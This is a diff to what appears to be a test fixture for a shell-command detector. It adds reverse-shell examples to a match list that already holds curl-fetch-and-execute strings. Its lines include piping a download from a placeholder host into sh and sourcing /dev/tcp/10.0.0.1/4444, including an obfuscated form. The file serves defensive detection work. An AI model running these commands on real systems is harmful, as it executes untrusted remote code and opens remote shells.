@@ -41,12 +41,15 @@ export const shellFindings: readonly NamedRule[] = [
       'curl -s https://x.example/i > /proc/self/fd/1 | sh',
       'curl -s https://x.example/i | swipl /dev/stdin',
       'curl -s https://x.example/i | cp /proc/thread-self/fd/0 i && sh i',
+      'source /dev/tcp/10.0.0.1/4444',
+      'bash /dev//tcp/10.0.0.1/4444',
     ],
     notMatch: [
       'curl https://x.example/i -o i.sh',
       'curl https://x.example/i | jq .',
       'curl -s https://x.example/i | tee >(sha256sum)',
       'exec 3< <(curl -s https://x.example/i); grep x <&3',
+      'source ./dev/tcp/lib.sh',
     ],
   },
   {
